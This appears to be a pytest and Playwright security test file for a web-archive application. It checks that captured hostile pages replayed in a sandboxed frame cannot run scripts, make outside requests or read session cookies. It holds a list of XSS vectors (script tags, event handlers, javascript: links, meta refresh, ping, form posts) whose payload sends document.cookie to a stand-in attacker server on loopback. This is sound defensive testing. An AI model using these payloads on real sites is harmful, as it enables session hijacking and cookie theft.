"""A hostile captured page, in a real browser: nothing of it runs, and our cookies are not its cookies."""

from __future__ import annotations

import contextlib
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from django.test import Client
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page

from tests.engine.archive.responses import response
from tests.library.factories import make_source
from tests.library.services.test_readings import page as report
from tests.people.factories import make_member
from wellspring.engine.records import CaptureKind
from wellspring.library import replay
from wellspring.library.models import Snapshot
from wellspring.library.services.captures import record_capture
from wellspring.library.services.readings import read_capture

pytestmark = pytest.mark.django_db(transaction=True)

URL = "https://news.example.com/2025/0305/a.html"
RUN = "document.title='RAN '+document.cookie;new Image().src='{home}/ran?'+document.cookie"
ATTACKS = """
<script>{run}</script>
<script src="{home}/ran.js"></script>
<img src="{home}/ran.png" onerror="{run}">
<img src="x:" onerror="{run}">
<svg onload="{run}"><script>{run}</script></svg>
<body onload="{run}" onpageshow="{run}">
<iframe src="{home}/ran-frame"></iframe>
<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>
<object data="{home}/ran-object"></object><embed src="{home}/ran-embed">
<link rel="stylesheet" href="{home}/ran.css"><link rel="prefetch" href="{home}/ran-prefetch">
<style>@import "{home}/ran-import.css"; .x {{ background: url({home}/ran-background) }}
@font-face {{ font-family: x; src: url({home}/ran-font) }} .x {{ font-family: x }}</style><p class="x">x</p>
<table background="{home}/ran-table"><tr><td>x</td></tr></table>
<video src="{home}/ran-video" autoplay></video><audio src="{home}/ran-audio" autoplay></audio>
<meta http-equiv="refresh" content="0;url={home}/ran-refresh">
<a id="script-link" href="javascript:{run}">script</a>
<a id="ping-link" href="#" ping="{home}/ran-ping">ping</a>
<form id="form" action="{home}/ran-form" method="post"><input name="q" autofocus onfocus="{run}">
<button id="send" type="submit">send</button></form>
<input id="late" onfocus="{run}" autofocus>
<details open ontoggle="{run}"><summary>x</summary></details>
<marquee onstart="{run}">x</marquee>
"""


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A site on loopback that notes whatever asks it for something."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"document.title='RAN'")

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture
def hostile(attacker: tuple[str, list[str]]) -> Snapshot:
    home, _ = attacker
    attacks = ATTACKS.format(home=home, run=RUN.format(home=home))
    sent = response(report(extra=attacks), url=URL)
    capture = record_capture(sent, kind=CaptureKind.PAGE, source_id=make_source().pk, requested_url=URL)
    snapshot = read_capture(capture.pk).snapshot
    assert snapshot is not None
    return snapshot


@pytest.fixture
def visitor(browser: object, site: str) -> Iterator[Page]:
    """A signed-in reader. Not `open_page`: here the browser's complaints about the captured page are the point."""
    client = Client()
    client.force_login(make_member().user)
    context = browser.new_context(locale="zh-CN")  # type: ignore[attr-defined]  # typed in conftest
    context.add_cookies(
        [
            {"name": "sessionid", "value": client.cookies["sessionid"].value, "url": site, "httpOnly": False},
            {"name": "plain", "value": "secret", "url": site},
        ]
    )
    yield context.new_page()
    context.close()


def try_everything(page: Page, frame: object) -> None:
    """Click what can be clicked in the captured page, then give whatever was started time to happen."""
    for target in ("#script-link", "#send", "#ping-link", "#late"):
        with contextlib.suppress(PlaywrightError):
            frame.locator(target).click(timeout=500, force=True)  # type: ignore[attr-defined]  # a page or a frame of it
    page.wait_for_timeout(700)


def as_it_was(monkeypatch: pytest.MonkeyPatch) -> None:
    """Take the inner fence away: the captured page goes out as it came, and the sandbox alone holds."""
    monkeypatch.setattr(
        "wellspring.library.views.original.replayed_page", lambda content, **_: replay.decode_page(content)[0]
    )


@pytest.mark.parametrize("inner_fence", [True, False])
def test_in_its_frame_nothing_of_it_runs(
    visitor: Page,
    site: str,
    hostile: Snapshot,
    attacker: tuple[str, list[str]],
    inner_fence: bool,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    if not inner_fence:
        as_it_was(monkeypatch)
    visitor.goto(f"{site}/library/snapshots/{hostile.pk}/original/")
    frame = visitor.frame_locator("iframe.original-frame")
    assert "居民们围坐一圈" in frame.locator("body").inner_text()
    try_everything(visitor, frame)
    assert "RAN" not in visitor.title()
    assert visitor.url == f"{site}/library/snapshots/{hostile.pk}/original/"
    assert attacker[1] == []


@pytest.mark.parametrize("inner_fence", [True, False])
def test_opened_by_itself_nothing_of_it_runs(
    visitor: Page,
    site: str,
    hostile: Snapshot,
    attacker: tuple[str, list[str]],
    inner_fence: bool,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    if not inner_fence:
        as_it_was(monkeypatch)
    address = f"{site}/library/snapshots/{hostile.pk}/original/page/"
    visitor.goto(address)
    assert "居民们围坐一圈" in visitor.locator("body").inner_text()
    try_everything(visitor, visitor)
    assert "RAN" not in visitor.title()
    assert visitor.url.partition("#")[0] == address
    assert attacker[1] == []


def test_its_origin_is_not_ours_so_that_even_a_script_could_not_read_our_cookies(
    visitor: Page, site: str, hostile: Snapshot
) -> None:
    visitor.goto(f"{site}/library/snapshots/{hostile.pk}/")
    assert "plain=secret" in visitor.evaluate("document.cookie")
    visitor.goto(f"{site}/library/snapshots/{hostile.pk}/original/page/")
    # The driver may run scripts where the page may not: it sees what a script of the page would see.
    assert visitor.evaluate("self.origin") == "null"
    assert (
        visitor.evaluate("(() => { try { return document.cookie } catch (e) { return e.name } })()") == "SecurityError"
    )


def test_a_kept_picture_is_shown_in_the_sandbox(
    open_page: Callable[..., Page], site: str, attacker: tuple[str, list[str]]
) -> None:
    import io

    from PIL import Image

    from wellspring.library.models import Picture

    drawn = io.BytesIO()
    Image.new("RGB", (60, 40), "green").save(drawn, "PNG")
    sent = response(report(extra='<p><img src="/img/a.png" width=600 height=400></p>'), url=URL)
    capture = record_capture(sent, kind=CaptureKind.PAGE, source_id=make_source().pk, requested_url=URL)
    snapshot = read_capture(capture.pk).snapshot
    assert snapshot is not None
    kept = record_capture(response(drawn.getvalue()), kind=CaptureKind.PICTURE, requested_url=URL)
    Picture.objects.filter(snapshot=snapshot).update(capture=kept)
    page = open_page(width=390, height=844)
    page.goto(f"{site}/library/snapshots/{snapshot.pk}/original/")
    picture = page.frame_locator("iframe.original-frame").locator("img")
    picture.scroll_into_view_if_needed()
    assert picture.evaluate("image => image.naturalWidth") == 60
